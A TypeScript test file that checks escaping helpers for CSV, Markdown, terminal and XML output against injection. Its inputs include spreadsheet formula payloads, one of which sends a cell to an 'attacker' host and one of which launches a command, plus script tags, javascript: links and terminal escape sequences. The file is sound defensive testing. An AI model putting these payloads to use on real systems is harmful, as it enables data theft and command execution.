import fc from 'fast-check';
import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.js';
import { markdownText } from './markdown-text.js';
import { terminalText } from './terminal-text.js';
import { xmlText } from './xml-text.js';
import { parseCsv } from '../test-support/csv.js';

/** Throws unless `xml` is a well-formed XML 1.0 document. */
function assertWellFormedXml(xml: string): void {
  const parser = new SaxesParser({ xmlns: false });
  parser.on('error', (e) => {
    throw e;
  });
  parser.write(xml).close();
}

describe('CSV cells (OWASP CSV injection)', () => {
  it('prefixes a quote to cells that start like a formula, and to nothing else', () => {
    for (const bad of ['=HYPERLINK("http://attacker/?d="&B2,"Details")', '+1+cmd|/C calc!A0', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) {
      expect(csvCell(bad)).toBe(`'${bad}`);
    }
    for (const ok of ['Pump stops', 'RC-1 passed', '-', '', ' =1', "'quoted"]) expect(csvCell(ok)).toBe(ok);
  });

  it('writes a formula title as inert text that reads back to the same characters after the quote', () => {
    const title = '=HYPERLINK("http://attacker/?d="&B2,"Details")';
    const csv = toCsv([['key', 'title'], ['UN-1', title]]);
    expect(csv).toBe('key,title\nUN-1,"\'=HYPERLINK(""http://attacker/?d=""&B2,""Details"")"\n');
    expect(parseCsv(csv)[1]).toEqual(['UN-1', `'${title}`]);
  });

  it('property: no cell of the output starts with a formula character, and each reads back as written', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: 'grapheme-ascii' }), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        const back = parseCsv(toCsv(rows));
        expect(back).toHaveLength(rows.length);
        back.forEach((r, i) =>
          r.forEach((cell, j) => {
            expect(cell === '-' || !/^[=+\-@\t\r]/.test(cell)).toBe(true);
            expect(cell).toBe(csvCell(rows[i]?.[j] ?? ''));
          }),
        );
      }),
    );
  });
});

describe('Markdown text', () => {
  it('keeps a forged section, raw HTML and a remote image from becoming markup', () => {
    const text = 'Pump\n# 9. Forged section\n<script>alert(1)</script> ![x](http://attacker/x.png) [click](javascript:x) **b** `c` a|b';
    const md = markdownText(text);
    expect(md).not.toMatch(/[\r\n]/);
    expect(md).toBe(
      'Pump \\# 9. Forged section \\<script\\>alert(1)\\</script\\> !\\[x\\](http://attacker/x.png) \\[click\\](javascript:x) \\*\\*b\\*\\* \\`c\\` a\\|b',
    );
    // Every markup character is escaped: none is left bare.
    expect(md.replace(/\\[\\`*_~[\]<>&|#]/g, '')).not.toMatch(/[\\`*_~[\]<>&|#]/);
  });

  it('shows control characters as escapes', () => {
    expect(markdownText('a\u001b[31mb')).toBe('a\\\\x1b\\[31mb');
  });
});

describe('terminal text', () => {
  it('shows control characters, ESC/OSC sequences and bidi overrides as visible escapes', () => {
    expect(terminalText('a\nb\r\tc')).toBe('a\\nb\\r\\tc');
    expect(terminalText('\u001b]8;;http://x\u0007link\u001b]8;;\u0007')).toBe('\\x1b]8;;http://x\\x07link\\x1b]8;;\\x07');
    expect(terminalText('\u009b2J \u007f \u202eevil')).toBe('\\x9b2J \\x7f \\u202eevil');
    expect(terminalText('line 1\nline\u001b 2', true)).toBe('line 1\nline\\x1b 2');
  });

  it('property: the result has no control character (but kept line feeds)', () => {
    fc.assert(
      // eslint-disable-next-line no-control-regex -- the point of the test
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (s) => !/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(terminalText(s))),
    );
  });
});

describe('XML text', () => {
  it('replaces characters XML 1.0 forbids with visible escapes and keeps the rest', () => {
    expect(xmlText('a\u0001b\u001bc\uffffd\ud800e\tf\ng')).toBe('a\\x01b\\x1bc\\uffffd\\ud800e\tf\ng');
    expect(xmlText('RPM 😀 ü')).toBe('RPM 😀 ü');
  });

  it('property: any text in an element and an attribute gives a well-formed document', () => {
    const esc = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (s) => {
        const t = esc(xmlText(s));
        assertWellFormedXml(`<?xml version="1.0"?><a b="${t}">${t}</a>`);
      }),
    );
  });
});
